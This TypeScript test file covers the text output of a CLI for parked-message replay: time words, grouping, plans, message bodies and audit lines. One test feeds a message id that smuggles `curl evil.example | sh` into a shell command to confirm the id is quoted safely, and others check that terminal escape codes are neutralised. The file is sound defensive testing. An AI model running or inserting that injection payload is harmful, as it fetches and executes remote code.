import { describe, expect, it } from 'vitest';
import { auditText } from '../../../../cli/operate/audit-text.ts';
import { parkedText } from '../../../../cli/operate/groups-text.ts';
import { planText } from '../../../../cli/operate/plan-text.ts';
import { bodyText } from '../../../../cli/operate/show-text.ts';
import { about, ago, at, counts, who } from '../../../../cli/operate/words.ts';
import { aPlan } from '../../replay/plans.ts';

const NOW = Date.UTC(2026, 5, 1, 12);
const ESCAPE = '\u001b';

const group = {
  class: 'transient',
  signature: 'sig',
  count: 5,
  selected: 0,
  failedAgain: 1,
  firstAt: '2026-06-01T10:00:00.000Z',
  lastAt: '2026-06-01T11:57:00.000Z',
  errorName: 'Error',
  sample: { messageId: 'm-1', errorMessage: `${ESCAPE}[2J${'long '.repeat(40)}` },
  automatic: 3,
  skipped: { 'min-age': 2 },
};

describe('words', () => {
  it('says how long ago something was, in one unit', () => {
    expect(ago('2026-06-01T11:59:58.000Z', NOW)).toBe('2 s ago');
    expect(ago('2026-06-01T11:01:00.000Z', NOW)).toBe('59 min ago');
    expect(ago('2026-05-31T12:00:00.000Z', NOW)).toBe('1 d ago');
    // Another machine's clock may be ahead.
    expect(ago('2026-06-01T12:00:03.000Z', NOW)).toBe('0 s ago');
    expect(ago(undefined, NOW)).toBe('-');
  });

  it('names moments, durations, counts and callers', () => {
    expect(at('2026-06-01T11:59:58.123Z')).toBe('2026-06-01 11:59:58Z');
    expect(about(400)).toBe('less than a second');
    expect(counts({ a: 1, b: 3, none: 0, unknown: undefined })).toBe('b 3, a 1');
    expect(who('arn:aws:sts::1:assumed-role/oncall/ada')).toBe('ada');
    expect(who('schedule')).toBe('schedule');
  });
});

describe('what is parked', () => {
  const parked = {
    flow: 'orders',
    window: { depth: 5, scanned: 5, complete: true },
    groups: [group],
    moreGroups: { groups: 0, messages: 0 },
    byClass: { transient: 5 },
    byAge: { '<6h': 5 },
  };

  it('is a line for each kind, with what automatic replay leaves and why', () => {
    const text = parkedText(parked, ' --env prod', NOW);
    expect(text).toMatch(/^transient +sig +5 +2 h ago +3 min ago +3 of 5; no: min-age 2 +m-1 /m);
    expect(text).toContain('(1 failed again after a replay)');
    expect(text).toContain('npm run -s layover -- show orders m-1 --env prod');
  });

  it('never lets a message’s text reach the terminal raw', () => {
    expect(parkedText(parked, '', NOW)).not.toContain(ESCAPE);
  });

  it('gives an id to a shell as one word, whatever its sender wrote', () => {
    const sample = { ...group.sample, messageId: `x'; curl evil.example | sh #$(id)${ESCAPE}` };

    const text = parkedText({ ...parked, groups: [{ ...group, sample }] }, ' --env prod', NOW);

    expect(text).toContain("show orders 'x'\\''; curl evil.example | sh #$(id)\\u001b' --env prod");
  });

  it('says what was not looked at, and what was not listed', () => {
    const deep = {
      ...parked,
      window: { depth: 80_000, scanned: 50_000, complete: false },
      moreGroups: { groups: 7, messages: 40 },
    };
    const text = parkedText(deep, '', NOW);
    expect(text).toContain('80000 messages parked in orders; the first 50000 were looked at');
    expect(text).toContain('… and 7 more kinds with 40 messages');
  });

  it('may be nothing', () => {
    const none = { ...parked, window: { depth: 0, scanned: 0, complete: true }, groups: [] };
    expect(parkedText(none, '', NOW)).toBe('Nothing is parked in orders.');
  });
});

describe('a plan', () => {
  const plan = JSON.parse(
    JSON.stringify(
      aPlan({
        flow: 'orders',
        selected: 3,
        refused: { uncertain: 2, origin: 1 },
        warnings: [{ what: 'replayed too often', count: 1 }],
        leftBehind: 4,
      }),
    ),
  );

  it('says what is held back, with the option that takes it', () => {
    const text = planText(plan, '', NOW);
    expect(text).toContain('Held back by uncertain: 2 messages');
    expect(text).toContain('--include-uncertain');
    expect(text).toContain('--accept-unknown');
    expect(text).toContain('Mind: 1 message replayed too often');
    expect(text).toContain('4 messages moved by an earlier run');
    expect(text).toContain(`run ${plan.id} --reason`);
  });

  it('with nothing in it names no command to run it', () => {
    expect(planText({ ...plan, selected: 0 }, '', NOW)).toContain('nothing to run');
    expect(planText({ ...plan, selected: 0 }, '', NOW)).not.toContain('--reason');
  });

  it('to discard says that it is for good', () => {
    expect(planText({ ...plan, action: 'discard' }, '', NOW)).toContain('Removed for good');
  });
});

describe('a body', () => {
  const body = (bytes: Buffer) => ({
    messageId: 'm',
    contentType: undefined,
    base64: bytes.toString('base64'),
  });

  it('is laid out when it is JSON, shown when it is text, in base64 when it is neither', () => {
    expect(bodyText(body(Buffer.from('{"a":1}')))).toBe('{\n  "a": 1\n}');
    expect(bodyText(body(Buffer.from(`plain ${ESCAPE}[2J\ntext`)))).toBe('plain \\u001b[2J\ntext');
    expect(bodyText(body(Buffer.from([0xff, 0xfe])))).toContain('//4=');
  });
});

describe('the audit', () => {
  it('is in the order it happened, ids in short', () => {
    const ids = Array.from({ length: 5 }, (_, n) => `m-${n}`);
    const text = auditText([
      { at: '2026-06-01T12:00:01.000Z', flow: 'orders', run: 'r', event: { kind: 'moved', ids } },
      {
        at: '2026-06-01T12:00:00.000Z',
        flow: 'orders',
        run: undefined,
        event: { kind: 'switched', by: 'arn:aws:iam::1:user/ada', to: 'off', reason: 'incident' },
      },
    ]);
    expect(text.split('\n').slice(1)).toEqual([
      '2026-06-01 12:00:00Z  -    switched  to off by ada: incident',
      '2026-06-01 12:00:01Z  r    moved     5 messages: m-0, m-1, m-2, …',
    ]);
    expect(auditText([])).toBe('The audit has no such lines.');
  });
});
